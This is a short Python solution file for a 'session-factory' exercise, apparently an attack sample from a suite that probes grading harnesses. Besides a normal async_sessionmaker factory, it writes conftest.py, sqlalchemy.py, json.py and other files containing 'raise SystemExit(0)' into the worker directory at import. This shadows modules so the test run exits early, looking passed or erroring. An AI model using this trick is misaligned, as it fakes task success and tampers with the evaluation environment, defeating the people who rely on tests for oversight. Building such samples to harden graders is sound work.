# /// attack
# exercise = "session-factory"
# trick = "conftest.py, kata/ and sqlalchemy.py are written where the worker runs"
# outcome = ["passed", "error"]
# witness = ["salary-rank"]
# ///

from pathlib import Path

from sqlalchemy.ext.asyncio import async_sessionmaker

for _name in ("conftest.py", "sqlalchemy.py", "json.py", "kata/__init__.py", "app/models.py", "versions/x.py"):
    Path(_name).parent.mkdir(exist_ok=True)
    Path(_name).write_text("raise SystemExit(0)\n")


def create_session_factory(engine):
    return async_sessionmaker(engine, expire_on_commit=False)
